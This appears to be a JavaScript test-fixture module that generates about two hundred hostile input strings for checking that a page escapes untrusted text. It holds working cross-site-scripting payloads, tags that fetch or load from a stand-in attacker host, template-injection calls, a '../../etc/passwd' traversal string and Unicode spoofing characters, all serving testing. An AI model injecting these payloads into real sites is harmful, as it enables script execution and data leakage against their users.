// Two hundred strings that a careless page would run, load, or be bent by.

/** What a string may try to do: set `window.hacked`, open a dialog, or ask another server. */
const HOST = 'http://evil.invalid';

const SCRIPTS = [
  'window.hacked=1', 'alert(1)', `fetch('${HOST}')`, `new Image().src='${HOST}'`,
];

const WRAPPERS = [
  (/** @type {string} */ js) => `<script>${js}</script>`,
  (/** @type {string} */ js) => `</title><script>${js}</script>`,
  (/** @type {string} */ js) => `</code></div></main><script>${js}</script>`,
  (/** @type {string} */ js) => `"><script>${js}</script>`,
  (/** @type {string} */ js) => `'><img src=x onerror="${js}">`,
  (/** @type {string} */ js) => `" autofocus onfocus="${js}" x="`,
  (/** @type {string} */ js) => `<svg onload="${js}">`,
  (/** @type {string} */ js) => `<svg><script>${js}</script></svg>`,
  (/** @type {string} */ js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  (/** @type {string} */ js) => `<iframe srcdoc="<script>${js}</script>">`,
  (/** @type {string} */ js) => `<iframe src="javascript:${js}">`,
  (/** @type {string} */ js) => `<a href="javascript:${js}">x</a>`,
  (/** @type {string} */ js) => `<details open ontoggle="${js}">`,
  (/** @type {string} */ js) => `<body onload="${js}">`,
  (/** @type {string} */ js) => `<video><source onerror="${js}">`,
  (/** @type {string} */ js) => `<math><mtext></p><img src=x onerror="${js}">`,
  (/** @type {string} */ js) => `<template><script>${js}</script></template>`,
  (/** @type {string} */ js) => `<noscript><p title="</noscript><script>${js}</script>">`,
  (/** @type {string} */ js) => `<!--><script>${js}</script>-->`,
  (/** @type {string} */ js) => `<![CDATA[<script>${js}</script>]]>`,
  (/** @type {string} */ js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (/** @type {string} */ js) => `\\u003cscript>${js}\\u003c/script>`,
  (/** @type {string} */ js) => `\${${js}}{{constructor.constructor("${js}")()}}`,
];

const LOADS = [
  `<img src="${HOST}/a.png">`, `<link rel=stylesheet href="${HOST}/a.css">`, `<style>@import "${HOST}/a.css";</style>`,
  `<style>body{display:none}</style>`, `<style>*{background:url(${HOST}/x)}</style>`, `<base href="${HOST}/">`,
  `<meta http-equiv=refresh content="0; url=${HOST}">`, `<form action="${HOST}"><button autofocus>`,
  `<object data="${HOST}/a.swf">`, `<embed src="${HOST}/a">`, `<audio src="${HOST}/a" autoplay>`,
  `<input type=image src="${HOST}/a">`, `<link rel=prefetch href="${HOST}/a">`, `<script src="${HOST}/a.js"></script>`,
  `<script type=module src="${HOST}/a.js"></script>`, `<div style="position:fixed;inset:0;background:red">`,
  `" style="position:fixed;inset:0" x="`, '<plaintext>', '<xmp>', '<textarea>', '<select><option>', '</body></html>',
  '<dialog open>', '<table><tr><td>', '<marquee>', '<frameset>', '<h1>a heading</h1>', '<main>another</main>',
];

const SIGNS = [
  '\u202e drow \u202c', '\u2066\u202b isolate', '\u200b\u200c\u200d\u2060', '\ufeff', '\u061c\u180e', '\u{e0041}\u{e0042}',
  '\u2028\u2029', '\u0000\u0001\u0007\u0008', '\u001b[31mred\u001b]0;title\u0007', '\u007f\u0080\u009f', '\r', '\f\v',
  'e\u0301'.repeat(50), 'Z\u0351\u036b\u0343'.repeat(60), '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', '\ud7ff\ue000\uffff',
  '\u3000\u00a0\u2003', 'W'.repeat(5000), '\ufdfd'.repeat(200), '\u{12031}'.repeat(100), '%00%0a%0d', '%2e%2e/%2e%2e/', '../../etc/passwd',
  '//evil.invalid', 'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', '\\\\evil.invalid\\x', 'a'.repeat(60000),
  '/*', '*/', '<!--', '-->', ']]>', '"', "'", '`', '&', '&amp;', '&#60;', '&notanentity;', '#{}', '${x}', '{{x}}', '<%x%>',
  '(?#', '[[:', '\\', '\\x', '/(/', '(((((', ')))))', '""""', 'key:value', 'lang:', 'path:(', '-', '--', '- -', 'or or or', 'not', 'line:',
  'count:0', 'timeout:0', 'rev:\u202e', 'type:path <b>', '::', ':', '=', 'g:*', '*', '**', '?', '^', '$', '.', '|',
  '\u{1f3f4}\u{e0067}\u{e007f}', '\ufff9\ufffa\ufffb', 'a\u00adb', '\u202a\u202b\u202d', 'http://evil.invalid/', '<'.repeat(2000),
];

/** @type {string[]} */
export const HOSTILE = [
  ...WRAPPERS.flatMap((wrap) => SCRIPTS.map(wrap)).slice(0, 92), ...LOADS, ...SIGNS,
];

/** A string as the name of a file or a package: no slash, no NUL, at most 200 bytes. */
export function asName(/** @type {string} */ text) {
  const bytes = Buffer.from(text.replaceAll('/', '\u2215').replaceAll('\0', ''));
  const name = bytes.subarray(0, 200);
  return ['', '.', '..'].includes(name.toString()) ? Buffer.from('dots') : name;
}
